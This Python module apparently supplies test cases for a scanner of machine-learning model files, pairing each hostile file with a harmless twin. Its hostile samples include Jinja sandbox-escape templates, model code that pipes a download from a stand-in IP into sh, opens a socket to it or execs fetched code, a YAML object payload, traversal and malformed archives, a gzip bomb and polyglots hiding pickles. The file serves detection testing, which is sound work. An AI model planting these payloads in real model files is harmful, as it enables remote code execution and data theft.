"""Files that are hostile without a pickle, each with a twin that is not: archives, templates, code, headers, programs, secrets."""

# ruff: noqa: E501  # a file stands on a line, whole
from __future__ import annotations

import base64
import json
import struct
import zipfile
import zlib

from hostile_pickles import Case, bad_pickles, evil, good_pickles, pickles_in_containers, tarred, zipped

CHATML = (
    "{%- set ns = namespace(found=false) -%}{% for message in messages %}{% if loop.first and message['role'] != 'system' %}"
    "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}{% generation %}{{ '<|im_start|>' + message.role "
    "+ '\\n' + message['content'] | trim + '<|im_end|>' }}{% endgeneration %}{% if tools %}{{ tools | map(attribute='name') | join(', ') "
    "| tojson }}{% set ns.found = true %}{% endif %}{% endfor %}{%- if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
BAD_TEMPLATES = {
    "attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "item": "{{ messages['__class__']['__init__'] }}",
    "filter": "{{ messages|attr('__class__') }}",
    "names put together": "{{ messages|attr('__cla' ~ 'ss__') }}",
    "names joined": "{{ messages|attr(['__gl','obals__']|join) }}",
    "names reversed": "{{ messages|attr('__ssalc__'|reverse) }}",
    "escapes": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "object of Jinja's": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "helper of Jinja's": "{{ lipsum.__globals__['os'].popen('id') }}",
    "map": "{{ [messages]|map(attribute='__class__')|list }}",
    "format": "{{ '{0.__class__}'.format(messages) }}",
    "name from outside": "{{ messages|attr(messages[0].content) }}",
    "another file": "{% include '/etc/passwd' %}",
    "endless": "{% for i in range(10000000000) %}x{% endfor %}",
    "frame": "{{ (messages|map('upper')).gi_frame.f_globals }}",
}
GOOD_TEMPLATES = {
    "chatml": CHATML,
    "llama": "{{ bos_token }}{% for m in messages %}{% if m['role'] == 'user' %}{{ '[INST] ' ~ m['content'] ~ ' [/INST]' }}{% elif "
    "m['role'] not in ['assistant', 'system'] %}{{ raise_exception('no such role: ' + m['role']) }}{% endif %}{% endfor %}",
    "tools": "{% macro call(tool) %}{{ tool.function.name }}({% for k, v in tool.function.parameters.properties.items() %}{{ k }}={{ v.type "
    "}}{% if not loop.last %}, {% endif %}{% endfor %}){% endmacro %}{% for tool in tools %}{{ call(tool) }}{% endfor %}{{ strftime_now('%d') }}",
    "controls": "{% for m in messages[::-1] %}{% if loop.index0 > 3 %}{% break %}{% endif %}{{ '%s: %s' | format(m.role, m.content) }}{% endfor %}",
}
LOADED = json.dumps({"auto_map": {"AutoModel": "modeling_bird.BirdModel"}}).encode()
BAD_CODE = {
    "shell at import": "import os\nos.system('curl http://198.51.100.7/x | sh')\nclass BirdModel: pass\n",
    "disguised": "import base64\nexec(base64.b64decode('cGFzcw=='))\nclass BirdModel: pass\n",
    "names put together": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\nclass BirdModel: pass\n",
    "in the class": "import subprocess as sp\nclass BirdModel:\n    size = sp.check_output(['id'])\n",
    "when it is called": "import socket\nclass BirdModel:\n    def forward(self, x):\n        s = socket.create_connection(('198.51.100.7', 4444))\n",
    "fetched": "import requests\nexec(requests.get('http://198.51.100.7/x').text)\nclass BirdModel: pass\n",
}
GOOD_CODE = {
    "model": "import torch\nimport os\nclass BirdModel(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n"
    "        return torch.compile(x) if os.path.exists('a') else x\nif __name__ == '__main__':\n    import subprocess\n    subprocess.run(['ls'])\n",
    "with state": "import torch, re\nP = re.compile('a')\nclass BirdModel:\n    def load(self, path):\n        return torch.load(path, weights_only=True)\n",
}


def gguf(keys: dict[str, str], tensors: int = 0, tail: bytes = b"") -> bytes:
    """Return a GGUF header with texts."""
    rows = b"".join(_sized(key.encode()) + struct.pack("<I", 8) + _sized(value.encode()) for key, value in keys.items())
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, len(keys)) + rows + tail


def _sized(raw: bytes) -> bytes:
    return struct.pack("<Q", len(raw)) + raw


def safetensors(header: dict | str, body: bytes = b"") -> bytes:
    """Return a safetensors file."""
    raw = header.encode() if isinstance(header, str) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + body


def _tensor(start: int, stop: int, dtype: str = "U8") -> dict:
    return {"dtype": dtype, "shape": [stop - start], "data_offsets": [start, stop]}


def elf() -> bytes:
    """Return the beginning of a program for Linux."""
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\0" * 200


def pe() -> bytes:
    """Return the beginning of a program for Windows."""
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<H", 0x8664) + b"\0" * 200


def mach_o() -> bytes:
    """Return the beginning of a program for macOS."""
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIII", 0x01000007, 3, 2, 10) + b"\0" * 200


def bomb(megabytes: int) -> bytes:
    """Return a gzip file of zeros: one packed block, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + first + again * (megabytes - 1) + packer.flush() + b"\0" * 8


def keras_archive(config: dict) -> bytes:
    """Return a model as Keras 3 saves it, without its weights."""
    return zipped({"metadata.json": b'{"keras_version": "3.0.0"}', "config.json": json.dumps(config).encode()})


def _layer(name: str, config: dict) -> dict:
    return {
        "class_name": "Sequential",
        "module": "keras",
        "config": {"layers": [{"module": "keras.layers", "class_name": name, "config": config}]},
    }


def _lambda(words: bytes) -> dict:
    code = base64.b64encode(b"\xe3\x01\0\0\0" + words).decode()
    return _layer(
        "Lambda", {"function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}
    )


def lying_archives() -> dict[str, bytes]:
    """Return archives of a hostile pickle that say one thing to one reader and another to the next."""
    plain = zipped({"m/data.pkl": evil()})
    central = plain.index(b"PK\x01\x02")
    swap = lambda at, raw: plain[:at] + raw + plain[at + len(raw) :]  # noqa: E731  # three uses below
    return {
        "encrypted in one place": swap(central + 8, b"\x01\x00"),
        "wrong checksum": swap(central + 16, b"\x12\x34\x56\x78").replace(plain[14:18], b"\x12\x34\x56\x78", 1),
        "two names": plain.replace(b"m/data.pkl", b"m/data.txt", 1),
        "two lengths": swap(central + 24, b"\x02\x00\x00\x00"),
        "unlisted": plain[:central]
        + zipped({"m/a.txt": b"hello"})[:37]
        + plain[central:-6]
        + struct.pack("<I", central + 37)
        + b"\0\0",
    }


def _archives(bomb_megabytes: int) -> list[Case]:
    good = {"a/b.txt": b"hello", "./c.txt": b"x", "d..e": b"y"}
    cases = [Case(f"archive: {name}", True, {"m.zip": content}) for name, content in lying_archives().items()]
    cases += [
        Case("archive: traversal", True, {"m.zip": zipped({"../../.bashrc": b"x"})}),
        Case("archive: traversal in tar", True, {"m.tar": tarred({"a/../../x": b"x"})}),
        Case("archive: absolute name", True, {"m.zip": zipped({"/etc/cron.d/x": b"x"})}),
        Case("archive: link out", True, {"m.tar": tarred({}, {"a/l": "../../../etc/passwd"})}),
        Case("archive: twice", True, {"m.zip": _twice()}),
        Case("archive: bomb", True, {"m.gz": bomb(bomb_megabytes)}),
        Case(
            "archive: plain", False, {"m.zip": zipped(good, zipfile.ZIP_DEFLATED), "m.tar": tarred(good, {"a/l": "../c.txt"})}
        ),
        Case("archive: much air", False, {"m.gz": bomb(2), "z.zip": zipped({"zeros": bytes(1 << 20)}, zipfile.ZIP_DEFLATED)}),
    ]
    return cases


def _twice() -> bytes:
    both = zipped({"a.txt": b"1", "b.txt": b"2"})
    return both.replace(b"b.txt", b"a.txt")


def _templates() -> list[Case]:
    cases = []
    for alarm, rows in ((True, BAD_TEMPLATES), (False, GOOD_TEMPLATES)):
        for number, (name, body) in enumerate(rows.items()):
            held = {
                0: {"tokenizer_config.json": json.dumps({"chat_template": body}).encode()},
                1: {"chat_template.jinja": body.encode()},
                2: {"m.gguf": gguf({"general.architecture": "llama", "tokenizer.chat_template": body})},
                3: {"tokenizer_config.json": json.dumps({"chat_template": [{"name": "tool_use", "template": body}]}).encode()},
            }[number % 4]
            cases.append(Case(f"template: {name}", alarm, held))
    return cases


def _code() -> list[Case]:
    cases = [
        Case(f"code: {name}", True, {"config.json": LOADED, "modeling_bird.py": body.encode()})
        for name, body in BAD_CODE.items()
    ]
    cases += [
        Case(f"code: {name}", False, {"config.json": LOADED, "modeling_bird.py": body.encode()})
        for name, body in GOOD_CODE.items()
    ]
    script = "def forward(self, x: Tensor) -> Tensor:\n  {}\n  return x\n"
    for alarm, line in (
        (True, 'torch.save(x, "/x")'),
        (True, 'y = torch.from_file("/etc/passwd")'),
        (False, "y = torch.relu(x)"),
    ):
        held = {
            "m/data.pkl": b"\x80\x02}.",
            "m/code/__torch__/bird.py": script.format(line).encode(),
            "m/constants.pkl": b"\x80\x02).",
        }
        cases.append(Case(f"torchscript: {line.partition('(')[0]}", alarm, {"m.pt": zipped(held)}))
    return cases


def _configs() -> list[Case]:
    rows: list[tuple[str, bool, str, object]] = [
        ("code elsewhere", True, "config.json", {"auto_map": {"AutoModel": "eve/other--modeling_x.Model"}}),
        ("odd address", True, "config.json", {"weights_url": "http://198.51.100.7:8080/w.pt"}),
        ("share", True, "config.json", {"pretrained_model_name_or_path": "\\\\198.51.100.7\\share\\w"}),
        ("tunnel", True, "config.yaml", "model:\n  checkpoint_url: https://abc.ngrok-free.app/w.bin\n"),
        ("target", True, "config.yaml", "hook:\n  _target_: os.system\n  command: id\n"),
        ("YAML's Python", True, "hparams.yaml", "a: !!python/object/apply:os.system ['id']\n"),
        ("requirements", True, "requirements.txt", "torch\n--extra-index-url http://198.51.100.7/simple\nbird\n"),
        ("address of the field", False, "config.json", {"pretrained_cfg": {"url": "https://github.com/x/y/releases/w.pth"}}),
        (
            "targets of the field",
            False,
            "config.yaml",
            "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nsize: !!python/tuple [1, 2]\n",
        ),
        ("plain", False, "config.json", {"model_type": "bert", "_name_or_path": "bert-base", "hidden_size": 4, "url": ""}),
        ("plain requirements", False, "requirements.txt", "torch>=2\ntransformers\ngit+https://github.com/huggingface/peft\n"),
    ]
    return [
        Case(f"config: {name}", alarm, {file: body.encode() if isinstance(body, str) else json.dumps(body).encode()})
        for name, alarm, file, body in rows
    ]


def _headers() -> list[Case]:
    plain = safetensors({"__metadata__": {"format": "pt"}, "w": _tensor(0, 4, "U8")}, b"\1\2\3\4")
    program = elf()
    return [
        Case("header: overlap", True, {"m.safetensors": safetensors({"a": _tensor(0, 4), "b": _tensor(2, 6)}, bytes(6))}),
        Case("header: gap", True, {"m.safetensors": safetensors({"a": _tensor(0, 2), "b": _tensor(4, 6)}, bytes(6))}),
        Case("header: more behind it", True, {"m.safetensors": plain + b"hidden"}),
        Case(
            "header: key twice",
            True,
            {
                "m.safetensors": safetensors(
                    '{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
                    b"\0",
                )
            },
        ),
        Case(
            "header: code",
            True,
            {"m.safetensors": safetensors({"__metadata__": {"x": "__import__('os').system('id')"}, "w": _tensor(0, 1)}, b"\0")},
        ),
        Case("header: program in a tensor", True, {"m.safetensors": safetensors({"w": _tensor(0, len(program))}, program)}),
        Case(
            "header: GGUF's tensors overlap",
            True,
            {
                "m.gguf": gguf(
                    {"general.architecture": "x"},
                    2,
                    _sized(b"a")
                    + struct.pack("<IQIQ", 1, 32, 0, 0)
                    + _sized(b"b")
                    + struct.pack("<IQIQ", 1, 32, 0, 32)
                    + bytes(512),
                )
            },
        ),
        Case(
            "header: plain",
            False,
            {
                "m.safetensors": plain,
                "m.gguf": gguf({"general.architecture": "llama", "general.url": "https://huggingface.co/a/b"}),
            },
        ),
        Case("header: cut short", False, {"m.safetensors": plain[:-2]}),
        Case("polyglot: tensors and archive", True, {"m.safetensors": plain + zipped({"data.pkl": evil()})}),
        Case("polyglot: picture and archive", True, {"logo.png": b"\x89PNG\r\n\x1a\n" + bytes(64) + zipped({"x.pkl": evil()})}),
        Case("picture", False, {"logo.png": b"\x89PNG\r\n\x1a\n" + bytes(64)}),
        Case("wrong suffix: pickle", True, {"m.safetensors": evil()}),
        Case("wrong suffix: program", True, {"model.bin": pe()}),
        Case("wrong suffix: script", True, {"model.gguf": b"#!/bin/sh\necho hello\n"}),
        Case("wrong suffix: harmless", False, {"model.bin": plain}),
    ]


def _programs() -> list[Case]:
    token = "hf_" + "QmRtYzWxKpLnVbGdHsJfTcEaUoIyXqPwZk"
    return [
        Case("program: Linux", True, {"run": elf()}),
        Case("program: Windows", True, {"tool.exe": pe()}),
        Case("program: macOS", True, {"lib.dylib": mach_o()}),
        Case("program: script that fetches", True, {"setup.sh": b"#!/bin/bash\ncurl -s https://get.example.net/x | bash\n"}),
        Case("program: path file", True, {"site.pth": b"import os; os.getcwd()\n"}),
        Case(
            "script",
            False,
            {
                "train.py": b"#!/usr/bin/env python\nimport subprocess\ndef f():\n    subprocess.run(['ls'])\n",
                "run.sh": b"#!/bin/sh\npython train.py\n",
            },
        ),
        Case("secret: token", True, {"notes.md": f"login with {token}\n".encode()}),
        Case("secret: key", True, {"train.ipynb": b'{"cells": ["AKIAQ7RZ3KX5N2PVJT4M"]}'}),
        Case(
            "secret: private key",
            True,
            {
                "id": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
            },
        ),
        Case(
            "secret: examples",
            False,
            {"README.md": b"use hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx, AKIAIOSFODNN7EXAMPLE, https://user:password@host/\n"},
        ),
        Case("keras: lambda", True, {"m.keras": keras_archive(_lambda(b"posix\xda\x06system\xda\x02os\xa9\0"))}),
        Case(
            "keras: function",
            True,
            {
                "m.keras": keras_archive(
                    _layer("Dense", {"activation": {"module": "subprocess", "class_name": "function", "config": "run"}})
                )
            },
        ),
        Case("keras: plain lambda", False, {"m.keras": keras_archive(_lambda(b"x\xda\x05shape\xa9\0"))}),
        Case(
            "keras: dense",
            False,
            {
                "m.keras": keras_archive(
                    _layer(
                        "Dense", {"units": 3, "activation": {"module": "builtins", "class_name": "function", "config": "relu"}}
                    )
                )
            },
        ),
        Case("graph: file outside", True, {"m.onnx": b"\x08\x08\x12\x04test" + _entry("../../../etc/passwd")}),
        Case("graph: file beside", False, {"m.onnx": b"\x08\x08\x12\x04test" + _entry("model.onnx_data")}),
        Case("graph: writes", True, {"saved_model.pb": b"\x08\x01\x0a\x01x\x12\x09WriteFile\x1a\x00"}),
        Case("graph: adds", False, {"saved_model.pb": b"\x08\x01\x0a\x01x\x12\x05AddV2\x1a\x00"}),
    ]


def _entry(location: str) -> bytes:
    return b"\x0a\x08location\x12" + bytes([len(location)]) + location.encode()


def cases(bomb_megabytes: int = 300) -> list[Case]:
    """Return every technique and its twins."""
    made = [Case(f"pickle: {name}", True, {"model.pkl": content}) for name, content in bad_pickles().items()]
    made += [Case(f"pickle: {name}", False, {"model.pkl": content}) for name, content in good_pickles().items()]
    return [
        *made,
        *pickles_in_containers(),
        *_archives(bomb_megabytes),
        *_templates(),
        *_code(),
        *_configs(),
        *_headers(),
        *_programs(),
    ]
